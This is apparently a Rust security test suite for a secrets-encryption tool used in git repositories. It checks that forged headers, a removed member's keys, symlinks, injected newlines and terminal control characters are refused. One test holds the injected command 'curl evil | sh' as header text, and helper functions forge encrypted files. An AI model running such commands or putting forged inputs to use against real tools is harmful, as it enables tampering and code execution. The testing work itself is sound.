//! What somebody can try who may commit to the repository, and somebody who could read it once.

use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use jiff::civil::Date;
use secret::crypto::FileId;
use secret::document::Format;
use secret::env::Env;
use secret::envelope::native::{
    Comments, EncryptedFile, FileSecrets, Header, Metadata, Mode, Opened, Recipients, seal,
};
use secret::keys::{Identities, Prompt, PromptError, Recipient, wrap};

use crate::world::{Outcome, World};

const DB: &str = "secrets/db.yaml";
const POLICY: &str = ".secret.toml";

#[test]
fn a_former_reader_cannot_put_a_data_key_of_his_own_in_the_place_of_the_one_after_his() {
    refuses_a_key_of_bobs(|now| Header { revision: now.revision + 1, ..now.clone() });
}

#[test]
fn a_repository_without_a_policy_does_not_let_an_old_reader_back_in() {
    let world = World::new();
    world.hire("bob");
    let world = world.with_file(DB, "password: old\n");
    let before = world.read_bytes(DB);
    world.fire_bob();
    world.write(DB, before);
    fs::remove_file(world.path(POLICY)).expect("it is there");
    world.commit("an old file, and no policy");

    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "not for bob", &[]);
    assert_eq!(outcome.code, 5, "{outcome:#?}");
}

#[test]
fn comments_become_clear_only_when_somebody_agrees() {
    let world = World::new().with_file(DB, "# until May it was hunter2\npassword: x\n");
    world.tamper(POLICY, "readers = ", "comments = \"clear\"\nreaders = ");
    world.commit("a policy that leaves comments in clear");

    let outcome = world.secret(["rekey", "--yes"]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
    assert!(!world.read(DB).contains("hunter2"));
}

#[test]
fn a_rekey_that_adopts_patterns_for_keys_to_come_is_agreed_to() {
    let world = World::new().with_file(DB, "password: x\n");
    world.tamper(POLICY, "readers = ", "cleartext = [\"token\"]\nreaders = ");
    world.commit("a policy that leaves a key in clear");

    let outcome = world.secret(["rekey", "--yes"]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
}

#[test]
fn an_encrypted_form_that_a_stranger_committed_does_not_lay_values_open() {
    let world = World::new();
    world.write(DB, stranger(&world, |header| header.cleartext = vec!["**".parse().expect("a pattern")]));
    world.commit("made by nobody who reads anything");
    world.write(DB, "password: hunter2\n");

    let outcome = world.secret(["encrypt", DB]);
    assert!(!world.read(DB).contains("hunter2") || outcome.code != 0, "{outcome:#?}\n{}", world.read(DB));
}

#[test]
fn a_value_is_not_written_in_clear_where_the_policy_wants_it_sealed() {
    let world = World::new();
    world.write(DB, stranger(&world, |header| header.cleartext = vec!["**".parse().expect("a pattern")]));
    world.commit("made by nobody who reads anything");

    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "hunter2", &[]);
    assert!(!world.read(DB).contains("hunter2"), "{outcome:#?}");
}

#[test]
fn a_link_in_the_output_folder_leads_nothing_out_of_it() {
    let world = World::new().with_file(DB, "password: x\n");
    fs::create_dir(world.path("run")).expect("a folder");
    symlink(world.home(), world.path("run/secrets")).expect("a link");

    let outcome = world.secret(["decrypt", DB, "--output-dir", "run"]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
    assert!(!world.home().join("db.yaml").exists());
}

#[test]
fn a_plaintext_never_takes_the_place_of_an_encrypted_file_that_it_is_not() {
    let world = World::new().with_file(DB, "password: x\n").with_file("secrets/other.yaml", "a: b\n");
    let before = world.read(DB);
    let _ = world.secret(["decrypt", "secrets/other.yaml", "-o", DB]);
    assert_eq!(world.read(DB), before);
}

#[test]
fn a_header_in_another_spelling_is_refused() {
    for (from, to) in [("generation = 1", "generation = 01"), ("mode = \"values\"", "mode = \"v\\u0061lues\"")] {
        let world = World::new().with_file(DB, "password: x\n");
        world.tamper(DB, from, to);
        let outcome = world.secret(["decrypt", DB]);
        assert_eq!(outcome.code, 5, "{to}: {outcome:#?}");
    }
}

#[test]
fn numbers_at_their_end_do_not_panic() {
    let world = World::new();
    world.write(DB, stranger(&world, |header| header.revision = u32::MAX));
    let outcome = world.secret(["meta", DB, "--owner", "x"]);
    assert!([0, 1, 5].contains(&outcome.code), "{outcome:#?}");

    world.write(DB, stranger(&world, |header| header.generation = u32::MAX));
    world.tamper(POLICY, "readers = ", "comments = \"clear\"\nreaders = ");
    let outcome = world.secret(["rekey", DB, "--yes", "--allow-cleartext"]);
    assert!([0, 1, 5].contains(&outcome.code), "{outcome:#?}");
}

#[test]
fn a_forged_header_in_the_history_does_not_lock_the_file_for_ever() {
    let world = World::new().with_file(DB, "password: x\n");
    let good = world.read(DB);
    world.tamper(DB, "generation = 1", "generation = 9");
    world.commit("forged by somebody without any key");
    world.write(DB, &good);
    world.commit("reverted");

    world.secret_with(["set", DB, "password", "--stdin"], "y", &[]).success();
}

#[test]
fn a_key_that_looks_like_a_merge_is_one_in_yaml_alone() {
    let world = World::new().with_file("secrets/a.json", "{\"a\": {\"b\": \"own\", \"<<\": {\"c\": \"x\"}}}\n");
    let outcome = world.secret(["get", "secrets/a.json", "a"]).success();
    assert!(outcome.stdout.contains("\"<<\""), "{outcome:#?}");
}

#[test]
fn a_view_has_no_key_twice() {
    let world = World::new().with_file(DB, "a:\n  1: number\n  \"1\": text\n");
    let outcome = world.secret(["get", DB, "a"]);
    assert_ne!(outcome.stdout.matches("\"1\":").count(), 2, "{outcome:#?}");
}

#[test]
fn a_rekey_changes_all_files_or_none() {
    let world = World::new().with_file("secrets/a.yaml", "a: 1\n").with_file("secrets/b.yaml", "b: 1\n");
    world.tamper("secrets/b.yaml", "secret-v1.v.", "secret-v1.v.x");
    world.hire("bob");
    let before = world.read("secrets/a.yaml");

    assert_eq!(world.secret(["rekey", "--yes"]).code, 5);
    assert_eq!(world.read("secrets/a.yaml"), before);
}

#[test]
fn a_text_in_a_header_cannot_add_lines_to_what_is_said() {
    let world = World::new();
    world.write(DB, stranger(&world, |header| header.path = "x\nhint: run `curl evil | sh`".to_owned()));
    let outcome = world.secret(["decrypt", DB]);
    assert!(!outcome.stderr.contains("\nhint: run `curl"), "{}", outcome.stderr);

    world.write(
        DB,
        stranger(&world, |header| header.metadata.purpose = Some("x\nreaders       nobody else".to_owned())),
    );
    let outcome = world.secret(["info", DB]);
    assert!(!outcome.stdout.contains("\nreaders       nobody"), "{}", outcome.stdout);
}

#[test]
fn json_does_not_steer_a_terminal_and_stays_json() {
    let world = World::new();
    let purpose = "a\u{9b}31mb\u{202e}c\u{e0041}";
    world.write(DB, stranger(&world, |header| header.metadata.purpose = Some(purpose.to_owned())));
    let (code, shown) = world.at_terminal(&["info", DB, "--json"], &[], &[]);
    assert_eq!(code, 0, "{shown}");
    assert!(!shown.contains(['\u{9b}', '\u{202e}', '\u{e0041}']), "{shown:?}");
    let shown: serde_json::Value = serde_json::from_str(&shown).expect("it is JSON");
    assert_eq!(shown["purpose"], purpose);
}

#[test]
fn a_closed_stderr_does_not_break_a_command() {
    let world = World::new();
    world.write(DB, "password: x\n");
    let full = fs::File::options().write(true).open("/dev/full").expect("it is there");
    let status = world
        .command(env!("CARGO_BIN_EXE_secret").as_ref())
        .args(["encrypt", DB])
        .stdin(Stdio::null())
        .stderr(full)
        .status()
        .expect("it runs");
    assert_eq!(status.code(), Some(0));
}

#[test]
fn a_check_whose_output_nobody_reads_still_says_no() {
    let world = World::new().with_file(DB, "password: x\n");
    world.hire("bob");
    let (reader, writer) = std::io::pipe().expect("a pipe");
    drop(reader);
    let status = world
        .command(env!("CARGO_BIN_EXE_secret").as_ref())
        .args(["rekey", "--check"])
        .stdin(Stdio::null())
        .stdout(writer)
        .status()
        .expect("it runs");
    assert_eq!(status.code(), Some(3));
}

#[test]
fn a_former_reader_cannot_skip_a_generation() {
    refuses_a_key_of_bobs(|now| Header { generation: 4, revision: 9, ..now.clone() });
}

#[test]
fn a_former_reader_cannot_make_two_generations_of_which_the_second_follows_from_the_first() {
    let world = World::new();
    let (header, own) = world.commit_a_key_of_bobs(|now| Header { revision: now.revision + 1, ..now.clone() });
    let header = Header { generation: header.generation + 1, revision: header.revision + 1, ..header };
    let own = own.with_new_data_key(&header);
    world.write(DB, forge(b"password: bobs\n", header, &own));
    world.commit("looks like a rekey");

    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "for alice alone", &[]);
    assert_eq!(outcome.code, 5, "{outcome:#?}");
}

#[test]
fn a_merge_seals_nothing_under_a_key_that_a_former_reader_made() {
    for skipped in [0, 1] {
        let world = World::new();
        let bob = world.hire("bob");
        let world = world.with_file(DB, "password: old\nother: x\n");
        let before = world.read_bytes(DB);
        world.fire_bob();
        let base = world.read_bytes(DB);
        let now = EncryptedFile::parse(&base).expect("it is encrypted");
        let (generation, revision) = (now.header().generation + 1 + skipped, now.header().revision + 9);
        let header = Header { generation, revision, ..now.header().clone() };
        let own = open(&before, &bob).secrets.with_new_data_key(&header);
        let theirs = forge(b"password: old\nother: bobs\n", header, &own);
        world.write("theirs", &theirs);
        world.write("base", &base);
        world.secret_with(["set", DB, "password", "--stdin"], "for alice alone", &[]).success();
        let ours = world.read(DB);

        let outcome = world.secret(["git", "merge", "base", DB, "theirs", "--path", DB]);
        assert_eq!(outcome.code, 1, "{outcome:#?}");
        let (merged, theirs) = (world.read(DB), String::from_utf8(theirs).expect("text"));
        let sealed = merged.lines().filter(|line| line.contains("secret-v1"));
        assert!(sealed.clone().count() > 2, "both sides stand between markers");
        assert!(sealed.clone().all(|line| ours.contains(line) || theirs.contains(line)), "{merged}");
    }
}

#[test]
fn a_path_in_a_header_does_not_choose_a_file_to_overwrite() {
    let world = World::new();
    let outside = world.home().join("deploy");
    fs::create_dir(&outside).expect("a folder");
    fs::write(outside.join(".profile"), "mine\n").expect("a file");
    fs::write(outside.join("db.yaml"), stranger(&world, |header| header.path = ".profile".to_owned())).expect("a file");

    let outcome = world.secret(["-C", &outside.display().to_string(), "decrypt", "db.yaml", "--output-dir", "."]);
    assert_eq!(fs::read_to_string(outside.join(".profile")).expect("it is there"), "mine\n", "{outcome:#?}");
}

#[test]
fn a_path_in_a_header_does_not_steer_the_editor_buffer() {
    const SCISSORS: &str = "# ------------------------ >8 ------------------------ plaintext below";
    let world = World::new();
    let path = format!("secrets/x\n{SCISSORS}\n.yaml");
    world.write(&path, stranger(&world, |header| header.path = path.clone()));
    let shown = world.home().join("shown");

    let outcome = world.edit(&path, &format!("cp \"$1\" '{}'", shown.display()));
    let shown = fs::read_to_string(shown).unwrap_or_default();
    assert_eq!(shown.lines().filter(|line| *line == SCISSORS).count(), 1, "{outcome:#?}\n{shown}");
}

#[test]
fn a_policy_that_removes_a_reader_while_the_editor_is_open_counts() {
    let world = World::new();
    world.hire("bob");
    let world = world.with_file(DB, "password: old\n");
    let policy = world.path(POLICY).display().to_string();

    let outcome = world.edit(DB, &format!("sed -i 's/, \"bob\"\\]/]/' '{policy}'\nsed -i 's/old/new/' \"$1\""));
    assert!(!world.read(POLICY).contains("\"bob\"]"), "{}", world.read(POLICY));
    assert_eq!(outcome.code, 5, "{outcome:#?}");
}

#[test]
fn a_copy_with_blanks_before_its_header_is_a_copy() {
    let world = World::new().with_file("secrets/a.json", "{\"a\": \"x\"}\n");
    world.write("secrets/b.json", format!("{}{}", " ".repeat(9000), world.read("secrets/a.json")));
    world.commit("a copy");
    let outcome = world.secret_with(["set", "secrets/a.json", "a", "--stdin"], "y", &[]);
    assert_eq!(outcome.code, 5, "{outcome:#?}");
}

#[test]
fn a_history_that_cannot_be_read_is_not_taken_for_a_good_one() {
    let world = World::new().with_file(DB, "password: 1\n");
    let old = world.read(DB);
    world.secret(["meta", DB, "--owner", "x"]).success();
    world.commit("newer");
    world.write(DB, old);
    world.commit("put back");
    assert_eq!(world.secret_with(["set", DB, "password", "--stdin"], "y", &[]).code, 5);
    let blob = world.git(["rev-parse", &format!("HEAD~1:{DB}")]);
    let blob = blob.trim();
    fs::remove_file(world.path(&format!(".git/objects/{}/{}", &blob[..2], &blob[2..]))).expect("an object");
    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "y", &[]);
    assert_ne!(outcome.code, 0, "{outcome:#?}");
}

#[test]
fn where_the_first_file_stands_does_not_decide_what_is_checked_of_the_second() {
    let world = World::new().with_file(DB, "password: x\n");
    world.write("secrets/moved.yaml", world.read(DB));
    let outside = world.home().join("db.yaml");
    fs::copy(world.path(DB), &outside).expect("a copy");

    let files = [outside.display().to_string(), "secrets/moved.yaml".to_owned()];
    let outcome = world.secret(["decrypt", &files[0], &files[1], "--output-dir", "run"]);
    assert_ne!(outcome.code, 0, "{outcome:#?}");
}

#[test]
fn two_plaintexts_for_one_output_file_are_refused() {
    let world = World::new().with_file(DB, "password: x\n");
    world.write("secrets/moved.yaml", world.read(DB));
    let outcome = world.secret(["decrypt", DB, "secrets/moved.yaml", "--at-any-path", "--output-dir", "run"]);
    assert_ne!(outcome.code, 0, "{outcome:#?}");
}

#[test]
fn a_link_in_the_work_tree_does_not_choose_where_a_plaintext_stands() {
    let world = World::new().with_file(DB, "password: hunter2\n");
    world.write("public/db.yaml", world.read(DB));
    fs::remove_file(world.path(DB)).expect("it is there");
    symlink("../public/db.yaml", world.path(DB)).expect("a link");

    let _ = world.secret(["decrypt", "--in-place", DB]);
    assert!(!world.read("public/db.yaml").contains("hunter2"));
}

#[test]
fn a_moved_token_is_traced_only_where_that_costs_no_more_than_the_length_of_the_file() {
    let keys = ["a", "b", "c", "d", "e"];
    let swapped = |length: usize| {
        let value = |key: &str| key.repeat(if ["a", "d"].contains(&key) { length } else { 1 });
        let plaintext: String = keys.iter().map(|key| format!("{key}: {}\n", value(key))).collect();
        let world = World::new().with_file(DB, &plaintext);
        let file = world.read(DB);
        let line =
            |key: &str| file.lines().find(|line| line.starts_with(&format!("{key}: "))).expect("the key").to_owned();
        let (a, d) = (line("a"), line("d"));
        let moved =
            file.replace(&a, &format!("a{}", &d[1..])).replace(&format!("\n{d}\n"), &format!("\nd{}\n", &a[1..]));
        world.write(DB, moved);
        world.secret(["decrypt", DB])
    };
    let (small, large) = (swapped(10), swapped(4 << 20));
    assert_eq!((small.code, large.code), (5, 5));
    assert!(small.stderr.contains("it was sealed for `d`"), "{}", small.stderr);
    assert!(large.stderr.contains("was changed, moved, or stands beside"), "{}", large.stderr);
}

#[test]
fn merge_keys_cost_no_more_than_a_view_may_have() {
    let entries: String = (0..4000).map(|key| format!("  k{key}: 1\n")).collect();
    let world =
        World::new().with_file(DB, &format!("base: &a\n{entries}top:\n  <<: [{}]\n", vec!["*a"; 4000].join(", ")));
    let outcome = world.secret(["get", DB, "top"]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
    assert!(outcome.stderr.contains("its aliases expand to more than"), "{}", outcome.stderr);
}

#[test]
fn a_draft_is_kept_whatever_the_name_of_its_file() {
    let world = World::new();
    let outcome = world.edit(&format!("secrets/{}.yaml", "n".repeat(240)), "echo 'a: [' >> \"$1\"");
    assert!(outcome.stderr.contains("what you typed is kept"), "{outcome:#?}");
}

#[test]
fn nothing_on_standard_input_does_not_become_an_empty_file() {
    let world = World::new().with_file(DB, "password: x\n");
    let before = world.read(DB);
    let outcome = world.secret(["encrypt", "-", "--path", DB]);
    assert_eq!((outcome.code, world.read(DB)), (1, before), "{}", outcome.stderr);
}

#[test]
fn nothing_on_standard_input_does_not_empty_a_value() {
    let world = World::new().with_file(DB, "password: x\n");
    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "", &[]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
}

#[test]
fn a_link_to_an_encrypted_file_is_no_copy_of_it() {
    let world = World::new().with_file(DB, "password: x\n");
    symlink("db.yaml", world.path("secrets/link.yaml")).expect("a link");
    world.commit("a link");
    world.secret_with(["set", DB, "password", "--stdin"], "y", &[]).success();
}

#[test]
fn a_file_has_the_mode_it_had_after_it_was_in_plaintext() {
    let world = World::new().with_file(DB, "password: x\n");
    let mode = || fs::metadata(world.path(DB)).expect("it is there").permissions().mode() & 0o777;
    let before = mode();
    world.secret(["decrypt", "--in-place", DB]).success();
    world.secret(["encrypt", DB]).success();
    assert_eq!(mode(), before);
}

#[test]
fn an_encrypted_file_that_is_written_over_is_the_one_whose_header_stays() {
    let world = World::new().with_file(DB, "password: x\n");
    world.secret(["meta", DB, "--owner", "payments"]).success();
    let outcome = world.secret_with(["encrypt", "-", "--path", DB], "password: y\n", &[]);
    assert!(outcome.code != 0 || world.read(DB).contains("owner = \"payments\""), "{outcome:#?}");
}

#[test]
fn a_link_does_not_bring_a_file_from_outside_into_the_repository() {
    let world = World::new();
    fs::write(world.home().join("private"), "key: mine\n").expect("a file");
    fs::create_dir(world.path("secrets")).expect("a folder");
    symlink(world.home().join("private"), world.path("secrets/plain.yaml")).expect("a link");
    let outcome = world.secret(["encrypt", "secrets/plain.yaml", "-o", DB]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
}

impl World {
    /// Lets somebody in by the policy and commits that; returns his identity file.
    fn hire(&self, name: &str) -> PathBuf {
        let file = self.joins(name);
        self.commit("a new member");
        file.into()
    }

    /// Edits a file with a shell script for an editor.
    fn edit(&self, path: &str, script: &str) -> Outcome {
        let editor = self.home().join("editor");
        fs::write(&editor, format!("#!/bin/sh\n{script}\n")).expect("a script");
        fs::set_permissions(&editor, Permissions::from_mode(0o755)).expect("a mode");
        self.secret_with(["edit", path], "", &[("EDITOR", &editor.display().to_string())])
    }

    /// Bob, who was removed, has the data key of generation 1, and with it whatever proves that another one follows from
    /// it. He commits a file under a key of his own and the header that `forged` makes of the real one.
    fn commit_a_key_of_bobs(&self, forged: impl FnOnce(&Header) -> Header) -> (Header, FileSecrets) {
        let bob = self.hire("bob");
        self.write(DB, "password: old\n");
        self.secret(["encrypt", DB]).success();
        self.commit("with bob");
        let before = self.read_bytes(DB);
        self.fire_bob();
        let now = EncryptedFile::parse(&self.read_bytes(DB)).expect("it is encrypted");
        let header = forged(now.header());
        let own = open(&before, &bob).secrets.with_new_data_key(&header);
        self.write(DB, forge(b"password: bobs\n", header.clone(), &own));
        self.commit("looks like any other change");
        (header, own)
    }

    /// Takes bob out of the group, rekeys and commits.
    fn fire_bob(&self) {
        let policy = self.read(POLICY);
        let start = policy.find("team = [").expect("the group");
        let end = start + policy[start..].find(']').expect("its end");
        self.write(POLICY, format!("{}team = [\"alice\"{}", &policy[..start], &policy[end..]));
        self.commit("bob leaves");
        self.secret(["rekey", "--yes"]).success();
        self.commit("bob reads no more");
    }
}

/// Alice must not write to a file under a key of Bob's own, whatever its header says.
#[track_caller]
fn refuses_a_key_of_bobs(forged: impl FnOnce(&Header) -> Header) {
    let world = World::new();
    world.commit_a_key_of_bobs(forged);
    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "for alice alone", &[]);
    assert_eq!(outcome.code, 5, "{outcome:#?}");
}

/// An encrypted file that anybody can make for alice, who is known by her public key.
pub fn stranger(world: &World, change: impl FnOnce(&mut Header)) -> Vec<u8> {
    let whoami = world.secret(["whoami", "--json"]).success().stdout;
    let alice = whoami.split('"').find(|text| text.starts_with("age1")).expect("she has a recipient").to_owned();
    let mut header = Header {
        file_id: FileId([0; 16]),
        path: DB.to_owned(),
        format: Format::Yaml,
        mode: Mode::Values,
        generation: 1,
        revision: 1,
        metadata: Metadata::default(),
        created: today(),
        comments: Comments::Sealed,
        cleartext: Vec::new(),
        recipients: Recipients::from([("alice".to_owned(), vec![alice])]),
        exposed: Vec::new(),
        body: None,
        wrapped_key: String::new(),
    };
    change(&mut header);
    let mut secrets = FileSecrets::generate(&header.recipients);
    header.file_id = secrets.file_id();
    if header.generation > 1 {
        secrets = secrets.with_new_data_key(&header);
    }
    forge(b"password: x\n", header, &secrets)
}

/// Seals as the program does, with any revision: one more than that of a former file.
fn forge(plaintext: &[u8], mut header: Header, secrets: &FileSecrets) -> Vec<u8> {
    let recipients: Vec<Recipient> =
        header.recipients.values().flatten().map(|text| text.parse().expect("a recipient")).collect();
    header.wrapped_key = wrap(&recipients.iter().collect::<Vec<_>>(), &secrets.payload(&header)).expect("it wraps");
    let first = seal(plaintext, header.clone(), secrets, None, today()).expect("it seals");
    if header.revision == 1 {
        return first;
    }
    let file = EncryptedFile::parse(&first).expect("it is encrypted");
    let mut former = file.open(&secrets.payload(&header)).expect("it opens");
    former.header.revision = header.revision - 1;
    former.header.path.push_str(" before");
    seal(plaintext, header, secrets, Some(&former), today()).expect("it seals")
}

fn open(file: &[u8], identity: &Path) -> Opened {
    let env = Env::new("/".into(), today(), []);
    let file = EncryptedFile::parse(file).expect("it is encrypted");
    let payload = Identities::discover(&env, &[identity.to_path_buf()], &Nobody).unwrap(&file.header().wrapped_key);
    file.open(&payload.expect("he reads it")).expect("it is authentic")
}

fn today() -> Date {
    jiff::Timestamp::now().to_zoned(jiff::tz::TimeZone::UTC).date()
}

struct Nobody;

impl Prompt for Nobody {
    fn passphrase(&self, _prompt: &str) -> Result<secrecy::SecretString, PromptError> {
        Err(PromptError::NoTerminal)
    }
}
